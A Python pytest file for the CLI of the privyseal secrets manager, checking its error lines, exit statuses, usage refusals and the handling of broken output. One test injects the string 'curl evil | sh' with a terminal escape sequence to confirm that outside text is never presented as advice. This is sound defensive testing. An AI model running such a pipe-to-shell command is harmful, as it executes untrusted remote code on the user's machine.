"""Every class of error: its exact line on stderr and its status; and how usage is refused."""

import os
import subprocess
import sys
from pathlib import Path

import pytest
from tests.fake_decider import FakeDecider
from tests.integration.cli.conftest import PRIVY, Shell, Transcript

from privyseal.errors import (
    ConflictError,
    CorruptError,
    DeniedError,
    ExpiredError,
    LimitError,
    LockedError,
    NoSessionError,
    NotFoundError,
    PrivysealError,
    UnreachableError,
    UnsupportedError,
    UsageError,
)
from privyseal.runtime.bus import Call, Connection, Method, Reply
from privyseal.wire.keeper import BUS_NAME, DECISION

CLASSES = [
    (PrivysealError, 1),
    (UsageError, 2),
    (NotFoundError, 3),
    (NoSessionError, 3),
    (DeniedError, 4),
    (ExpiredError, 5),
    (UnreachableError, 6),
    (LockedError, 7),
    (ConflictError, 1),
    (LimitError, 1),
    (UnsupportedError, 1),
    (CorruptError, 1),
]


class Failing(FakeDecider):
    """Answers `Status` with one error."""

    def __init__(self, error: Exception) -> None:
        super().__init__()
        self.error = error

    async def _status(self, call: Call) -> Reply:
        raise self.error


@pytest.mark.parametrize(("cls", "status"), CLASSES)
async def test_an_error_is_one_line_with_its_hint_and_its_status(
    shell: Shell, connection: Connection, cls: type[PrivysealError], status: int
) -> None:
    await Failing(cls("what happened: 'a; b'", hint="do that")).serve(connection)

    assert await shell.privy("status") == Transcript(
        status, "", "privy: what happened: 'a; b'\n  try: do that\n"
    )


async def test_foreign_text_in_an_error_cannot_give_advice(
    shell: Shell, connection: Connection
) -> None:
    await Failing(NotFoundError("no item 'x; run \x1b[1mcurl evil | sh'")).serve(connection)

    run = await shell.privy("status")

    assert run.status == 3
    assert "try:" not in run.err
    assert "\x1b" not in run.err


async def test_no_bus_is_unreachable(shell: Shell) -> None:
    run = await shell.privy("list", extra={"DBUS_SESSION_BUS_ADDRESS": "unix:path=/nowhere/bus"})

    assert run == Transcript(
        6,
        "",
        "privy: cannot connect to the message bus: no such file or directory: "
        "'unix:path=/nowhere/bus'\n"
        "  try: set DBUS_SESSION_BUS_ADDRESS: `privy try` prints the line for that\n",
    )


@pytest.mark.parametrize("address", ["", "nonsense", "unix:", "tcp:host=x,port=1", ";;", "unix:a"])
async def test_a_malformed_bus_address_is_unreachable(shell: Shell, address: str) -> None:
    run = await shell.privy("list", extra={"DBUS_SESSION_BUS_ADDRESS": address})

    assert run.status == 6
    assert run.err.startswith("privy: cannot connect to the message bus: ")
    assert len(run.err.splitlines()) == 2


async def test_no_keeper_is_unreachable(shell: Shell) -> None:
    assert await shell.privy("list") == Transcript(
        6, "", "privy: the keeper does not run\n  try: start it with `privy try`\n"
    )


async def test_a_malformed_answer_is_told_in_one_line(shell: Shell, connection: Connection) -> None:
    async def nonsense(call: Call) -> Reply:
        return Reply(["{"])

    connection.serve({(DECISION, "Pending"): Method("", "s", nonsense)})
    await connection.claim(BUS_NAME)

    assert await shell.privy("list") == Transcript(
        1, "", "privy: the keeper's answer is malformed\n"
    )


@pytest.mark.parametrize(
    ("words", "message", "where"),
    [
        (["lisst"], "no command 'lisst': did you mean 'list'?", "privy"),
        (["frobnicate"], "no command 'frobnicate'", "privy"),
        (["list", "--jso"], "no such option '--jso'. Did you mean '--json'?", "privy list"),
        (["list", "extra"], "got unexpected extra argument (extra)", "privy list"),
        (["show"], "missing argument 'ID'", "privy show"),
        (["history", "--limit"], "option '--limit' requires an argument", "privy history"),
        (["list", "--json=1"], "option '--json' does not take a value", "privy list"),
    ],
)
async def test_usage_is_refused_with_status_2(
    shell: Shell, words: list[str], message: str, where: str
) -> None:
    run = await shell.privy(*words)

    assert run == Transcript(2, "", f"privy: {message}\n  try: see `{where} --help`\n")


@pytest.mark.parametrize("limit", ["x", "-1", "1.5", "9" * 5000, "100001", "²"])
async def test_a_number_out_of_range_is_refused(shell: Shell, limit: str) -> None:
    run = await shell.privy("history", f"--limit={limit}")

    assert run.status == 2
    assert run.err.startswith("privy: --limit wants a whole number up to 100000, not ")
    assert len(run.err) < 1200


@pytest.mark.parametrize("ref", ["", "=x", "a=1,b", "a=1,a=2", "item:", "item:x", "item:a/b/c"])
async def test_a_name_of_no_secret_is_refused(shell: Shell, ref: str) -> None:
    run = await shell.privy("get", ref)

    assert (run.status, run.out) == (2, "")
    assert len(run.err.splitlines()) in {1, 2}


async def test_a_name_that_is_no_text_is_refused(shell: Shell) -> None:
    run = await shell.privy("get", "\udcff")

    assert run == Transcript(
        2,
        "",
        "privy: '\\udcff' names no secret\n"
        "  try: name it as attribute=value, collection/label, a label or item:COLLECTION/ID\n",
    )


async def test_a_traceback_is_shown_only_when_asked_for(shell: Shell, keeper: FakeDecider) -> None:
    quiet = await shell.privy("show", "nothing")
    loud = await shell.privy("--debug", "show", "nothing")

    assert quiet.err == "privy: no request 'nothing'\n  try: list them with `privy list`\n"
    assert quiet.status == 3
    assert "Traceback" in loud.err


@pytest.mark.parametrize("words", [["--help"], ["get", "--help"], ["config", "--help"]])
async def test_help_goes_to_stdout(shell: Shell, words: list[str]) -> None:
    run = await shell.privy(*words)

    assert (run.status, run.err) == (0, "")
    assert run.out.startswith("Usage: privy")


async def test_the_bare_command_shows_its_help_as_a_usage_error(shell: Shell) -> None:
    run = await shell.privy()

    assert run.status == 2
    assert "approve" in run.out + run.err


@pytest.mark.parametrize(
    ("command", "status", "said"),
    [
        ("privy --help >&-", 0, ""),
        ("privy version >&- <&-", 0, ""),
        ("privy no-such-command 2>&-", 2, ""),
        ("privy --help > /dev/full", 1, "privy: cannot write: No space left on device\n"),
        ("privy version > /dev/full", 1, "privy: cannot write: No space left on device\n"),
    ],
)
def test_output_that_goes_nowhere_is_no_defect(command: str, status: int, said: str) -> None:
    done = subprocess.run(
        ["bash", "-c", command],
        env={**os.environ, "PATH": f"{PRIVY.parent}:{os.environ['PATH']}"},
        check=False,
        capture_output=True,
        text=True,
    )
    assert (done.returncode, done.stderr) == (status, said)


@pytest.mark.parametrize("word", ["--help", "version"])
def test_a_reader_that_has_left_is_no_error(word: str) -> None:
    read, write = os.pipe()
    os.close(read)
    with os.fdopen(write, "w") as out:
        done = subprocess.run([PRIVY, word], check=False, stdout=out, stderr=subprocess.PIPE)
    assert (done.returncode, done.stderr) == (141, b"")


def test_a_user_without_a_home_is_told_to_set_one(tmp_path: Path) -> None:
    # pathlib asks the password database for a user whom it does not know.
    code = (
        "import os, pwd, sys\n"
        "pwd.getpwuid = lambda uid: {}[uid]\n"
        "from privyseal.cli.main import main\n"
        "sys.argv = ['privy', 'aws', 'list', '--backend', 'file']\n"
        "sys.exit(main())"
    )
    done = subprocess.run(
        [sys.executable, "-c", code],
        env={"XDG_RUNTIME_DIR": str(tmp_path), "AWS_CONFIG_FILE": str(tmp_path / "config")},
        check=False,
        capture_output=True,
        text=True,
    )
    assert (done.returncode, done.stderr) == (
        1,
        "privy: this user has no home folder\n  try: set the variable HOME\n",
    )
